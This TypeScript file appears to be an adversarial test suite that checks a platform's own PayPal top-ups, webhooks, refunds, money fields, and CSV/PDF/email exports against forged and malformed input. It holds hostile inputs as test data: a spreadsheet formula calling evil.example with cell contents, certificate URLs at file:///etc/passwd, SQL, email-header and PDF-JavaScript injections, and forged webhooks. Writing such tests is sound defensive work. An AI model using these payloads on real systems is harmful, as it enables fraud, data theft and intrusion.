import { setTimeout as sleep } from "node:timers/promises";
import { inflateSync } from "node:zlib";
import { demoPayPalAccount } from "../../demo/paypal-catcher.ts";
import { listOf } from "./api-document.ts";
import { type Attacker, addCampaign, addPartner, mostTaken } from "./attacker.ts";
import { type Answer, textAt, valueAt } from "./http.ts";
import { answer } from "./receivers.ts";
import type { Report } from "./record.ts";

/** Whoever wants to be credited what was never paid, and what stands on papers about money. */
export async function attackMoney(attacker: Attacker): Promise<void> {
  const { payPal } = attacker.installation;
  // What PayPal sends is sent by hand here.
  payPal.webhooks.isSending = false;
  const shop: { till: Till | null } = { till: null };
  await attacker.record.case("a partner that pays through PayPal", async (report) => {
    shop.till = await openTill(attacker, report);
  });
  if (shop.till !== null) {
    await attackReturns(attacker, shop.till);
    await attackAmountsAtPayPal(attacker, shop.till);
    await attackWebhooks(attacker, shop.till);
    await attackRefunds(attacker, shop.till);
    await attackReversals(attacker);
    await attackMoneyFields(attacker, shop.till);
  }
  await attackPapers(attacker);
  await attackPublicLimit(attacker);
  for (const token of payPal.tokens) attacker.secrets.set(`an access token of PayPal ${attacker.secrets.size}`, token);
  await attacker.record.case("the ledger is right after all this", async (report) => {
    const { code, output } = await attacker.installation.run(["ledger", "verify"]);
    if (code !== 0) report("accepted_bad", `handoff ledger verify ended with ${code}: ${output.slice(-400)}`);
  });
}

interface Till {
  readonly partnerId: string;
  readonly accountId: string;
  readonly webhookId: string;
  /** The stranger's. */
  readonly otherAccountId: string;
}

const amounts = { GBP: { minimum: 100, maximum: 100_000 } };

async function openTill(attacker: Attacker, report: Report): Promise<Till> {
  const { payPal, api, strangerKey } = attacker.installation;
  const account = async (webhookId: string, key?: string) => {
    const answered = await attacker.call(report, {
      method: "PUT",
      path: "/v1/paypal-account",
      document: { environment: "sandbox", ...demoPayPalAccount, amounts, webhookId },
      ...(key === undefined ? {} : { key }),
    });
    return textAt(answered.json, "id");
  };
  const webhookId = payPal.webhooks.register(api);
  const accountId = await account(webhookId);
  const otherAccountId = await account(payPal.webhooks.register(api), strangerKey);
  return { partnerId: await addPartner(attacker, report, {}), accountId, webhookId, otherAccountId };
}

interface Begun {
  readonly id: string;
  readonly orderId: string;
  readonly token: string;
}

const asked = 1_000;

async function beginTopUp(attacker: Attacker, report: Report, { partnerId }: Till): Promise<Begun> {
  const { payPal } = attacker.installation;
  const document = { amount: asked };
  const { json } = await attacker.call(report, { method: "POST", path: `/v1/partners/${partnerId}/top-ups`, document });
  const orderId = textAt(json, "orderId");
  const address = payPal.books.orders.get(orderId)?.returnUrl ?? "";
  const token = new URL(address).pathname.split("/").at(-1) ?? "";
  // A few stand for all: each is looked for in every row of the database.
  const kept = [...attacker.secrets.keys()].filter((name) => name.startsWith("a return address")).length;
  if (kept < 3) attacker.secrets.set(`a return address ${kept}`, token);
  return { id: textAt(json, "id"), orderId, token };
}

async function comeBack(attacker: Attacker, report: Report, token: string): Promise<Answer> {
  return attacker.call(report, { path: `/v1/top-ups/return/${token}?PayerID=X`, key: null });
}

/** All that is booked for the partner, and how its payments stand. */
async function booksOf(attacker: Attacker, report: Report, { partnerId }: Till): Promise<string> {
  const paths = [`/v1/partners/${partnerId}/ledger?limit=200`, `/v1/top-ups?partnerId=${partnerId}&limit=200`];
  const answers = await Promise.all(paths.map(async (path) => attacker.call(report, { path })));
  // Whoever looks, and when PayPal is asked next, is no matter.
  return answers.map(({ text }) => text.replace(/"nextLookAt":("[^"]*"|null)/g, "")).join("\n");
}

async function stateOf(attacker: Attacker, report: Report, id: string): Promise<string> {
  return textAt((await attacker.call(report, { path: `/v1/top-ups/${id}` })).json, "state");
}

/** Whatever is tried has to be refused, and nothing may be otherwise afterwards. */
async function nothingHappens(attacker: Attacker, report: Report, till: Till, attempt: () => Promise<void>) {
  const before = await booksOf(attacker, report, till);
  await attempt();
  const after = await booksOf(attacker, report, till);
  if (after !== before) report("accepted_bad", `the books changed: ${after.slice(0, 400)}`);
}

/** Somebody who guesses the address at which payers come back, or alters their own. */
async function attackReturns(attacker: Attacker, till: Till): Promise<void> {
  const { record, installation, random } = attacker;
  let begun: Begun = { id: "", orderId: "", token: "." };
  let other = begun;
  await record.case("two payments that were approved", async (report) => {
    [begun, other] = [await beginTopUp(attacker, report, till), await beginTopUp(attacker, report, till)];
    for (const { orderId } of [begun, other]) installation.payPal.approve(orderId);
  });
  const [id = "", hash = ""] = begun.token.split(".");
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  const guesses = [
    id,
    `${id}.`,
    `.${hash}`,
    `${id}.${other.token.split(".")[1] ?? ""}`,
    `${id.toUpperCase()}.${hash}`,
    `${id}.${hash.toUpperCase()}`,
    `${id}.${hash}=`,
    `${id}.${hash}=%3D`,
    `${id}.${hash.slice(0, -1)}`,
    `${id}.${hash}A`,
    `${id}.${"A".repeat(22)}`,
    `${id}.${"_".repeat(22)}`,
    `${id}.${random.word(22)}`,
    `${id}%00.${hash}`,
    `${begun.token}%00`,
    `${begun.token}%20`,
    `${begun.token}/`,
    `${begun.token}.${hash}`,
    `..%2freturn%2f${begun.token}`,
    `${id}.${hash.replaceAll("-", "+").replaceAll("_", "/")}~`,
    "%",
    "%ff%fe",
    "null",
    "A".repeat(4_000),
    ...[...alphabet].map((last) => `${id}.${hash.slice(0, -1)}${last}`),
  ].filter((guess) => guess !== begun.token);
  for (const guess of guesses) {
    await record.case(`the return address ${guess.slice(0, 70)}`, async (report) =>
      nothingHappens(attacker, report, till, async () => {
        const path = `/v1/top-ups/return/${guess}`;
        const { status } = await attacker.refuse(report, { path, key: null });
        if (![400, 404].includes(status)) report("accepted_bad", `answered ${status}`);
      }),
    );
  }
  await record.case("the same payer back ten times at once", async (report) => {
    const answers = await Promise.all(Array.from({ length: 10 }, async () => comeBack(attacker, report, begun.token)));
    for (const { status, text } of answers) {
      if (status !== 200 || /<script|href=/i.test(text))
        report("accepted_bad", `answered ${status} ${text.slice(0, 200)}`);
    }
    const state = await stateOf(attacker, report, begun.id);
    if (state !== "credited") report("accepted_bad", `the payment is ${state}`);
    await creditedOnce(attacker, report, till, begun.id);
  });
}

async function creditedOnce(attacker: Attacker, report: Report, { partnerId }: Till, id: string): Promise<void> {
  const { json } = await attacker.call(report, { path: `/v1/top-ups/${id}` });
  const captureId = String(valueAt(json, "captureId"));
  const { text } = await attacker.call(report, { path: `/v1/partners/${partnerId}/ledger?limit=200` });
  const transactions = valueAt(JSON.parse(text), "data");
  const count = Array.isArray(transactions)
    ? transactions.filter((one) => [id, captureId].some((name) => JSON.stringify(one).includes(name))).length
    : 0;
  if (count > 1) report("accepted_bad", `the payment was credited ${count} times`);
}

/** PayPal says another amount than was asked for, in the order or in the capture. */
async function attackAmountsAtPayPal(attacker: Attacker, till: Till): Promise<void> {
  const { record, installation } = attacker;
  const { payPal } = installation;
  const others = [
    ["GBP", "9.99"],
    ["GBP", "10.01"],
    ["GBP", "0.00"],
    ["GBP", "-10.00"],
    ["GBP", "1e1"],
    ["GBP", "10,00"],
    ["GBP", "1000"],
    ["GBP", "10.005"],
    ["GBP", "\u0661\u0660.00"],
    ["GBP", "99999999999999999999.99"],
    ["EUR", "10.00"],
    ["JPY", "1000"],
    ["gbp", "10.00"],
    ["", ""],
  ] as const;
  for (const [currency_code, value] of others) {
    await record.case(`an order that became ${value} ${currency_code}`, async (report) => {
      const begun = await beginTopUp(attacker, report, till);
      const order = payPal.books.orders.get(begun.orderId);
      if (order === undefined) throw new Error("PayPal has no such order.");
      payPal.approve(begun.orderId);
      order.amount = { currency_code, value };
      await notCredited(attacker, report, begun);
    });
    await record.case(`a capture of ${value} ${currency_code}`, async (report) => {
      const begun = await beginTopUp(attacker, report, till);
      payPal.approve(begun.orderId, "for_review");
      await comeBack(attacker, report, begun.token);
      const [capture] = payPal.books.capturesOf(begun.orderId);
      if (capture === undefined) throw new Error("Nothing was captured.");
      capture.amount = { currency_code, value };
      payPal.endReview(capture.id, "COMPLETED");
      await notCredited(attacker, report, begun);
    });
  }
}

async function notCredited(attacker: Attacker, report: Report, { id, token }: Begun): Promise<void> {
  await comeBack(attacker, report, token);
  await attacker.call(report, { method: "POST", path: `/v1/top-ups/${id}/capture` }).catch(() => undefined);
  const state = await stateOf(attacker, report, id);
  if (state === "credited") report("accepted_bad", "it was credited");
}

/** Webhooks that PayPal did not send, and what PayPal sends in ways that nobody expects. */
async function attackWebhooks(attacker: Attacker, till: Till): Promise<void> {
  const { record, installation } = attacker;
  const { payPal, canary } = installation;
  let begun: Begun = { id: "", orderId: "", token: "" };
  await record.case("a payment that nobody has approved", async (report) => {
    begun = await beginTopUp(attacker, report, till);
  });
  const capture = (amount: object, orderId: string, id = "FORGEDCAPTURE0001") => ({
    id,
    status: "COMPLETED",
    amount,
    custom_id: begun.id,
    supplementary_data: { related_ids: { order_id: orderId } },
  });
  const good = { currency_code: "GBP", value: "10.00" };
  const eventOf = (type: string, resource: unknown) => payPal.webhooks.emit(type, "capture", Object(resource));
  const post = async (
    report: Report,
    body: string,
    headers: Readonly<Record<string, string>>,
    accountId = till.accountId,
  ) => attacker.call(report, { method: "POST", path: `/v1/paypal-webhooks/${accountId}`, key: null, body, headers });
  // Made up: PayPal does not tell of what did not happen, but whoever has its signature of something else may say that it did.
  const body = JSON.stringify({
    id: "WH-FORGED",
    event_type: "PAYMENT.CAPTURE.COMPLETED",
    resource: capture(good, begun.orderId),
  });
  const signed = payPal.webhooks.sign(till.webhookId, eventOf("PAYMENT.CAPTURE.PENDING", { id: "OTHER" }));
  const changed = (name: string, value: string | null) =>
    Object.fromEntries(
      Object.entries({ ...signed.headers, [name]: value ?? "" }).filter(([key]) => key !== name || value !== null),
    );
  const names = Object.keys(signed.headers).filter((name) => name.startsWith("paypal-"));
  const strangersHost = `http://127.0.0.1:${canary.port}/cert.pem`;
  const forgeries: readonly (readonly [string, string, Readonly<Record<string, string>>])[] = [
    ["without a signature", body, { "content-type": "application/json" }],
    ...names.map((name) => [`without ${name}`, body, changed(name, null)] as const),
    ...names.map((name) => [`with an empty ${name}`, body, changed(name, "")] as const),
    ...names.map((name) => [`with ${name} of 3,000 characters`, body, changed(name, "A".repeat(3_000))] as const),
    ["with the signature of another event", body, signed.headers],
    ["with one more blank than was signed", `${signed.body} `, signed.headers],
    ["with a byte less", signed.body.slice(0, -2).concat("}"), signed.headers],
    ...["none", "MD5withRSA", "SHA256withHMAC", "null"].map(
      (algorithm) => [`of the algorithm ${algorithm}`, body, changed("paypal-auth-algo", algorithm)] as const,
    ),
    ...[strangersHost, "file:///etc/passwd", "http://evil.example/c.pem", "https://api.paypal.com@127.0.0.1/", "x"].map(
      (url) => [`with its certificate at ${url}`, body, changed("paypal-cert-url", url)] as const,
    ),
    ...["0", "", '","webhook_id":"x', "1970-01-01T00:00:00Z"].map(
      (time) => [`of the time ${time}`, body, changed("paypal-transmission-time", time)] as const,
    ),
  ];
  for (const [name, forged, headers] of forgeries) {
    await record.case(`a webhook ${name}`, async (report) =>
      nothingHappens(attacker, report, till, async () => {
        const answered = await post(report, forged, headers);
        if (answered.status < 400) report("accepted_bad", `answered ${answered.status}`);
      }),
    );
  }
  await record.case("nobody asked a stranger's host for a certificate", async (report) => {
    if (canary.connections() > 0) report("leak", "somebody connected to it");
  });
  await record.case("a webhook of one organisation at another's address", async (report) =>
    nothingHappens(attacker, report, till, async () => {
      const { status } = await post(report, signed.body, signed.headers, till.otherAccountId);
      if (status < 400) report("accepted_bad", `answered ${status}`);
    }),
  );
  await record.case("webhooks at accounts that are none", async (report) => {
    for (const accountId of [
      "01890000-0000-7000-8000-00000000beef",
      begun.id,
      till.partnerId,
      "x",
      "%00",
      `${till.accountId}%00`,
    ]) {
      const { status } = await post(report, signed.body, signed.headers, accountId);
      if (![400, 404].includes(status)) report("accepted_bad", `${accountId} answered ${status}`);
    }
  });
  const bodies: readonly (readonly [string, string])[] = [
    ["nothing", ""],
    ["null", "null"],
    ["an array", "[]"],
    ["a text", '"x"'],
    ["half a document", '{"event_type":'],
    ["two documents", `${signed.body}${signed.body}`],
    ["a document and more of the request around it", `${signed.body},"webhook_id":"x"`],
    ["the end of the request around it", `${signed.body}}`],
    ["no resource", '{"event_type":"PAYMENT.CAPTURE.COMPLETED"}'],
    ["a resource that is a text", '{"event_type":"PAYMENT.CAPTURE.COMPLETED","resource":"x"}'],
    ["10,000 levels", `{"event_type":"X","resource":${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}}`],
    ["50,000 brackets", "[".repeat(50_000)],
    ["a megabyte", JSON.stringify({ event_type: "X", resource: { a: "x".repeat(1_000_000) } })],
    ["a byte order mark", `\ufeff${signed.body}`],
    ["__proto__", '{"__proto__":{"event_type":"X"},"event_type":"X","resource":{"__proto__":{"id":"x"}}}'],
    ["bytes that are no UTF-8", '{"event_type":"\u0080","resource":{}}'],
  ];
  for (const [name, raw] of bodies) {
    await record.case(`a webhook whose body is ${name}`, async (report) =>
      nothingHappens(attacker, report, till, async () => {
        const { status } = await post(report, raw, signed.headers);
        if (status < 400) report("accepted_bad", `answered ${status}`);
      }),
    );
  }
  for (const type of [
    "text/plain",
    "application/xml",
    "application/json; charset=utf-16",
    "x",
    "multipart/form-data; boundary=x",
  ]) {
    await record.case(`a webhook of the type ${type}`, async (report) =>
      nothingHappens(attacker, report, till, async () => {
        const { status } = await post(report, body, { ...signed.headers, "content-type": type });
        if (status < 400) report("accepted_bad", `answered ${status}`);
      }),
    );
  }
  const odd: readonly (readonly [string, unknown])[] = [
    ["PAYMENT.CAPTURE.COMPLETED", capture(good, begun.orderId)],
    ["PAYMENT.CAPTURE.COMPLETED", capture({ currency_code: "GBP", value: "999999.00" }, begun.orderId)],
    ["PAYMENT.CAPTURE.COMPLETED", capture(good, "ORDEROFNOBODY0001")],
    ["PAYMENT.CAPTURE.COMPLETED", { id: "../../v1/oauth2/token" }],
    ["PAYMENT.CAPTURE.COMPLETED", { id: "a\u0000b" }],
    ["PAYMENT.CAPTURE.COMPLETED", { id: "\ud800" }],
    ["PAYMENT.CAPTURE.COMPLETED", { id: 7, supplementary_data: [] }],
    ["PAYMENT.CAPTURE.REFUNDED", { id: "R1", status: "COMPLETED", amount: good, links: [{ rel: "up", href: "x" }] }],
    [
      "PAYMENT.CAPTURE.REVERSED",
      { id: "R2", status: "COMPLETED", amount: good, links: [{ rel: "up", href: "https://x/captures/NOBODY" }] },
    ],
    ["CHECKOUT.ORDER.APPROVED", { id: begun.orderId }],
    ["CHECKOUT.ORDER.APPROVED", { id: "x'; drop table top_ups; --" }],
    ["CHECKOUT.ORDER.COMPLETED", { id: null }],
    ["CHECKOUT.PAYMENT-APPROVAL.REVERSED", { order_id: "\u0000" }],
    ["BILLING.SUBSCRIPTION.CREATED", { id: "I-1" }],
    ["", {}],
    ["x".repeat(100), {}],
    ["__proto__", { constructor: 1 }],
  ];
  for (const [type, resource] of odd) {
    await record.case(
      `${type.slice(0, 40)} with ${JSON.stringify(resource).slice(0, 40)}, signed by PayPal`,
      async (report) =>
        nothingHappens(attacker, report, till, async () => {
          const delivery = payPal.webhooks.sign(till.webhookId, eventOf(type, resource));
          await post(report, delivery.body, delivery.headers);
        }),
    );
  }
  await record.case("one true webhook, twenty times at once and then again", async (report) => {
    payPal.approve(begun.orderId);
    await comeBack(attacker, report, begun.token);
    const event = payPal.webhooks.events.findLast(
      ({ type, body }) => type === "PAYMENT.CAPTURE.COMPLETED" && body.includes(begun.id),
    );
    if (event === undefined) throw new Error("PayPal has not told of it.");
    const delivery = payPal.webhooks.sign(till.webhookId, event);
    const send = async () => (await post(report, delivery.body, delivery.headers)).status;
    const statuses = [...(await Promise.all(Array.from({ length: 20 }, send))), await send()];
    if (statuses.some((status) => status !== 204)) report("accepted_bad", `answered ${statuses.join()}`);
    await creditedOnce(attacker, report, till, begun.id);
  });
  await record.case("forged webhooks are one problem for staff, not hundreds", async (report) => {
    const { json } = await attacker.call(report, { path: "/v1/payment-problems?limit=200" });
    const found = valueAt(json, "data");
    const forged = Array.isArray(found) ? found.filter((one) => valueAt(one, "kind") === "webhook_not_verified") : [];
    // A new day may begin meanwhile.
    if (forged.length === 0 || forged.length > 2) report("accepted_bad", `there are ${forged.length}`);
  });
}

/** More back than was paid, by one request or by many at once. */
async function attackRefunds(attacker: Attacker, till: Till): Promise<void> {
  const { record, installation } = attacker;
  await record.case("eight refunds at once, of three fifths each", async (report) => {
    const begun = await beginTopUp(attacker, report, till);
    installation.payPal.approve(begun.orderId);
    await comeBack(attacker, report, begun.token);
    const path = `/v1/top-ups/${begun.id}/refunds`;
    const answers = await Promise.all(
      Array.from({ length: 8 }, async () =>
        attacker.call(report, { method: "POST", path, document: { amount: (asked * 3) / 5, reason: "x" } }),
      ),
    );
    const taken = answers.filter(({ status }) => status < 300).length;
    if (taken !== 1) report("accepted_bad", `${taken} of them were taken`);
    for (const amount of [asked, (asked * 2) / 5 + 1])
      await attacker.refuse(report, { method: "POST", path, document: { amount, reason: "x" } });
  });
  await record.case("a refund of a payment that never came", async (report) => {
    const { id } = await beginTopUp(attacker, report, till);
    const path = `/v1/top-ups/${id}/refunds`;
    await attacker.refuse(report, { method: "POST", path, document: { amount: 1, reason: "x" } });
    await attacker.refuse(report, { method: "POST", path, document: { reason: "x" } });
  });
}

/** One sale, taken back in every way that there is, all at once: the money goes back once. */
async function attackReversals(attacker: Attacker): Promise<void> {
  const { record, installation } = attacker;
  await record.case("returns and reversals of one lead, all at once", async (report) => {
    const internet = { method: "json", url: `${installation.receiver.url}/ok`, body: "{}" };
    const partnerId = await addPartner(attacker, report, { internet, returns: { decide: "auto" } });
    const { intakeKey } = await addCampaign(attacker, report, [partnerId]);
    const path = `/v1/intake/${intakeKey}?wait=10000`;
    const sent = await attacker.call(report, { method: "POST", path, key: null, document: attacker.person() });
    const lead = `/v1/leads/${textAt(sent.json, "leadId")}`;
    const ways = [
      [`${lead}/returns`, { partnerId, reason: "duplicate" }],
      [`${lead}/returns`, { partnerId, comment: "x", override: true }],
      [`${lead}/reverse`, { partnerId, reason: "x" }],
      [`${lead}/reverse-referral`, { partnerId, reason: "x" }],
      [`${lead}/unrefer`, { partnerId, reason: "x" }],
    ] as const;
    const taken = await Promise.all(
      [...ways, ...ways].map(async ([way, document]) => attacker.call(report, { method: "POST", path: way, document })),
    );
    if (taken.every(({ status }) => status >= 300))
      report("accepted_bad", `none was taken: ${taken[0]?.text.slice(0, 200)}`);
    const { json } = await attacker.call(report, { path: `/v1/partners/${partnerId}/ledger?limit=200` });
    const booked = listOf(valueAt(json, "data")).flatMap((one) => listOf(valueAt(one, "entries")));
    const sum = booked
      .filter((entry) => /^(funds|reserved)$/.test(String(valueAt(entry, "account"))))
      .reduce<number>((total, entry) => total + Number(valueAt(entry, "amount")), 0);
    if (sum !== 0) report("accepted_bad", `the partner has ${sum} after all went back`);
  });
}

const noAmounts = [
  0.5,
  1.005,
  1e-7,
  1e308,
  2 ** 53,
  2 ** 53 + 2,
  mostTaken + 1,
  "100",
  "1e3",
  "10.00",
  "\u0661\u0660\u0660",
  true,
  [],
  [100],
  {},
  { amount: 100 },
] as const;
const belowZero = [-1, -0.01, -mostTaken] as const;
const noPercents = [-0.0001, 100.0001, 33.33333, 1e-5, "10", true, [], 1e308] as const;
const noCurrencies = ["gbp", "GBP\n", "GB", "XXX1", "\u20ac", "", 826, null, ["GBP"]] as const;

/** Each field that holds money, with what is none. */
async function attackMoneyFields(attacker: Attacker, till: Till): Promise<void> {
  const { record } = attacker;
  const { partnerId } = till;
  const partner = `/v1/partners/${partnerId}`;
  const filter = [{ field: "v", op: "exists" }];
  const fields: readonly (readonly [
    method: string,
    path: string,
    documentOf: (value: unknown) => object,
    bad: readonly unknown[],
  ])[] = [
    ["POST", `${partner}/payments`, (amount) => ({ amount, reason: "x" }), [...noAmounts, ...belowZero, 0]],
    [
      "POST",
      `${partner}/payments`,
      (amount) => ({ kind: "refund", amount, reason: "x" }),
      [...noAmounts, ...belowZero, 0, mostTaken],
    ],
    [
      "POST",
      `${partner}/payments`,
      (amount) => ({ kind: "adjustment", amount, reason: "x" }),
      [...noAmounts, 0, -mostTaken],
    ],
    [
      "POST",
      `${partner}/payouts`,
      (amount) => ({ amount, reason: "x" }),
      [...noAmounts, ...belowZero, 0, 1, mostTaken],
    ],
    [
      "POST",
      `${partner}/payouts`,
      (currency) => ({ amount: 1, currency, reason: "x" }),
      [...noCurrencies, "EUR", "JPY"],
    ],
    ["POST", `${partner}/top-ups`, (amount) => ({ amount }), [...noAmounts, ...belowZero, 0, 99, 100_001, null]],
    ["POST", `${partner}/top-ups`, (currency) => ({ amount: 1_000, currency }), [...noCurrencies, "EUR"]],
    ["PATCH", partner, (creditLimit) => ({ creditLimit }), [...noAmounts, ...belowZero, null]],
    ["PATCH", partner, (lowFundsThreshold) => ({ lowFundsThreshold }), [...noAmounts, ...belowZero, null]],
    ["PATCH", partner, (percent) => ({ returns: { perMonth: { percent } } }), [...noPercents, 0, null]],
    [
      "PATCH",
      partner,
      (leadValue) => ({ leadValue }),
      [...noAmounts.filter((one) => typeof one !== "object"), ...belowZero, null, [], {}, { default: -1 }],
    ],
    [
      "PATCH",
      partner,
      (price) => ({ leadValue: { default: 1, rules: [{ when: filter, price }] } }),
      [...noAmounts, ...belowZero, null],
    ],
    [
      "PATCH",
      partner,
      (max) => ({ leadValue: { default: 1, answer: { min: 1, max } } }),
      [...noAmounts, ...belowZero, null, 0],
    ],
    ["PATCH", partner, (percent) => ({ billing: { accepted: { percent } } }), [...noPercents, 0, null]],
    [
      "PATCH",
      partner,
      (percent) => ({ billing: { accepted: { percent: 50 }, qualified: { percent } } }),
      [50.0001, 51, 100],
    ],
    ["PATCH", partner, (amount) => ({ billing: { accepted: { amount } } }), [...noAmounts, ...belowZero, null]],
    ["PATCH", partner, (amount) => ({ billing: { accepted: { amount, percent: 10 } } }), [0, 1]],
    ["PATCH", partner, (percent) => ({ leadCost: { percent } }), [...noPercents, 0, null]],
    ["PATCH", partner, (amount) => ({ leadCost: { amount } }), [...noAmounts, ...belowZero, null]],
    ["PATCH", partner, (spendDay) => ({ limits: { spendDay } }), [0.5, 1.005, "100", true, [], {}, -1, 2 ** 53]],
    ["PATCH", partner, (currency) => ({ currency }), noCurrencies],
    ["PATCH", "/v1/organisation", (taxPercent) => ({ taxPercent }), [...noPercents, null]],
    ["PATCH", "/v1/organisation", (smsRate) => ({ smsRate }), [...noAmounts, ...belowZero, null]],
    ["PATCH", "/v1/organisation", (currency) => ({ currency }), noCurrencies],
    [
      "PUT",
      "/v1/paypal-account",
      (maximum) => ({ environment: "sandbox", ...demoPayPalAccount, amounts: { GBP: { minimum: 1, maximum } } }),
      [...noAmounts, ...belowZero, 0, null],
    ],
    [
      "PUT",
      "/v1/paypal-account",
      (currency) => ({
        environment: "sandbox",
        ...demoPayPalAccount,
        amounts: { [String(currency)]: { minimum: 1, maximum: 2 } },
      }),
      [...noCurrencies.filter((one) => !Array.isArray(one)), "XAU", "__proto__x", "BHD"],
    ],
  ];
  for (const [index, [method, path, documentOf, bad]] of fields.entries()) {
    const shown = JSON.stringify(documentOf("…")).slice(0, 80);
    await record.case(
      `${index}: ${method} ${path.replace(partnerId, "{id}")} ${shown} with no such money`,
      async (report) =>
        nothingHappens(attacker, report, till, async () => {
          for (const value of bad) {
            const { status, json } = await attacker.refuse(report, { method, path, document: documentOf(value) });
            if (status < 300) report("accepted_bad", `took ${JSON.stringify(value)}`);
            if (status === 400 && !Array.isArray(valueAt(json, "fields")))
              report("accepted_bad", `${JSON.stringify(value)}: no field is named`);
          }
        }),
    );
  }
}

const noValues = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "x\t=1+1",
  "'=1+1",
  '"=1+1',
  '","=1+1',
  'x"\r\n"=1+1',
  "x\r\n=1+1,2",
  "\u200b=1+1",
  "\u202e=1+1\u202c",
  "\u2067=1+1",
  "\uff1d1+1",
  "\u0007\u001b[31mx",
  "100\u202e00.1",
  ") /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (",
  "\\) /AA << /S /URI /URI (http://evil.example/) >> \\",
  "endstream endobj 1 0 obj << /S /Launch >> endobj",
  "<script>alert(1)</script>",
  "x\r\nBcc: evil@example.net\r\n\r\nx",
  "\u05e9\u05dc\u05d5\u05dd 12 \u0645\u062d\u0645\u062f",
  "\u0301".repeat(200),
  "W".repeat(200),
  "\ud83d\udca9".repeat(60),
];

/** Text that somebody wrote, in statements and invoices, for spreadsheets and for readers of PDF and of mail. */
async function attackPapers(attacker: Attacker): Promise<void> {
  const { record, installation, isShort, random } = attacker;
  const { receiver } = installation;
  const today = new Date().toLocaleDateString("sv-SE", { timeZone: "Europe/London" });
  let reference = "";
  receiver.behave("reference", (socket) => answer(socket, JSON.stringify({ reference })));
  let partnerId = "";
  let invoiceId = "";
  await record.case("a partner with much on its statement", async (report) => {
    const internet = { method: "json", url: `${receiver.url}/reference`, body: "{}", reference: "$.reference" };
    partnerId = await addPartner(attacker, report, { internet });
    const { intakeKey } = await addCampaign(attacker, report, [partnerId]);
    for (const value of noValues) {
      reference = value;
      await attacker.call(report, {
        method: "POST",
        path: `/v1/partners/${partnerId}/payments`,
        document: { amount: 1, reason: value },
      });
      await attacker.call(report, {
        method: "POST",
        path: `/v1/intake/${intakeKey}?wait=10000`,
        key: null,
        document: attacker.person(),
      });
    }
    const address = `${noValues.slice(0, 12).join("\n")}`;
    await attacker.call(report, {
      method: "PATCH",
      path: `/v1/partners/${partnerId}`,
      document: { name: noValues[17], contact: { address, taxId: noValues[1] } },
    });
    const issued = await attacker.call(report, {
      method: "POST",
      path: `/v1/partners/${partnerId}/invoices`,
      document: { from: today, to: today },
    });
    invoiceId = textAt(issued.json, "id");
  });
  await record.case("the statement as CSV runs no formula and keeps its columns", async (report) => {
    const { text, status } = await attacker.call(report, { path: `/v1/partners/${partnerId}/statement/csv` });
    if (status !== 200) report("accepted_bad", `answered ${status}`);
    const [headings = [], ...rows] = readCsv(text.replace(/^\ufeff/, ""));
    if (rows.length < noValues.length) report("accepted_bad", `it has ${rows.length} rows`);
    for (const row of rows) {
      if (row.length !== headings.length) report("leak", `a row has ${row.length} columns: ${JSON.stringify(row)}`);
      for (const cell of row) {
        const isFormula = /^[\s\p{C}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
        if (isFormula) report("leak", `a spreadsheet would run ${JSON.stringify(cell)}`);
      }
    }
    const cells = new Set(rows.flat().map((cell) => cell.replace(/^'/, "")));
    for (const value of noValues) {
      if (!cells.has(value.trim().replace(/^'/, ""))) report("accepted_bad", `${JSON.stringify(value)} is not on it`);
    }
  });
  const pdfs = () => [`/v1/partners/${partnerId}/statement/pdf`, `/v1/invoices/${invoiceId}/pdf`];
  for (const index of [0, 1]) {
    await record.case(
      `${["the statement", "the invoice"][index]} as PDF does nothing but show text`,
      async (report) => {
        const { text, status, headers } = await attacker.call(report, {
          path: pdfs()[index] ?? "",
          timeoutMs: 120_000,
          as: "latin1",
        });
        const disposition = String(headers["content-disposition"]);
        if (!/^attachment; filename="[\w.-]+\.pdf"$/.test(disposition)) report("leak", `it is called ${disposition}`);
        if (status !== 200 || !text.startsWith("%PDF-") || !text.trimEnd().endsWith("%%EOF"))
          report("accepted_bad", `answered ${status} ${text.slice(0, 100)}`);
        const acting = /\/(JavaScript|JS|OpenAction|AA|Launch|URI|SubmitForm|EmbeddedFile|RichMedia|XFA)\b/.exec(
          markOf(text),
        );
        if (acting !== null) report("leak", `it has ${acting[0]}`);
      },
    );
  }
  await record.case("an invoice by mail goes to one person, with the headers of ours", async (report) => {
    const to = `books-${random.word(10)}@example.com`;
    await attacker.call(report, { method: "POST", path: `/v1/invoices/${invoiceId}/send`, document: { to } });
    for (const recipient of ["x\r\nBcc: evil@example.net", "a@example.com, b@example.net", "x", "", [to], null])
      await attacker.refuse(report, {
        method: "POST",
        path: `/v1/invoices/${invoiceId}/send`,
        document: { to: recipient },
      });
    const mailFor = () => installation.mail.messages().filter((one) => one.to.includes(to));
    for (let tries = 0; mailFor().length === 0 && tries < 300; tries += 1) await sleep(100);
    const [mail, ...more] = mailFor();
    if (mail === undefined || more.length > 0) return report("accepted_bad", `${mailFor().length} came`);
    if (mail.to.length !== 1) report("leak", `it went to ${mail.to.join()}`);
    const names = mail.message.headers.map(({ key }) => key);
    if (names.some((name) => /evil|^bcc$|^cc$/.test(name))) report("leak", `it has the headers ${names.join()}`);
    if (/<script/i.test(mail.message.html ?? "")) report("leak", "its HTML has a script of the partner's");
  });
  await record.case("a statement that takes long to write makes nobody else wait", async (report) => {
    const slow = await addPartner(attacker, report, {});
    const rows = isShort ? 60 : 300;
    for (let done = 0; done < rows; done += 10) {
      await Promise.all(
        Array.from({ length: 10 }, async () =>
          attacker.call(report, {
            method: "POST",
            path: `/v1/partners/${slow}/payments`,
            document: { amount: 1, reason: random.word(500) },
          }),
        ),
      );
    }
    const startedMs = performance.now();
    let isWritten = false;
    const path = `/v1/partners/${slow}/statement/pdf`;
    const written = attacker.call(report, { path, timeoutMs: 300_000 }).finally(() => {
      isWritten = true;
    });
    let longestMs = 0;
    while (!isWritten) {
      const { durationMs } = await attacker.call(report, { path: "/healthz", key: null });
      longestMs = Math.max(longestMs, durationMs);
      await sleep(5);
    }
    const { status } = await written;
    const tookMs = performance.now() - startedMs;
    if (status !== 200) report("accepted_bad", `answered ${status}`);
    if (longestMs > 500 && longestMs > tookMs / 3)
      report("leak", `/healthz took ${Math.round(longestMs)} of the ${Math.round(tookMs)} ms`);
  });
}

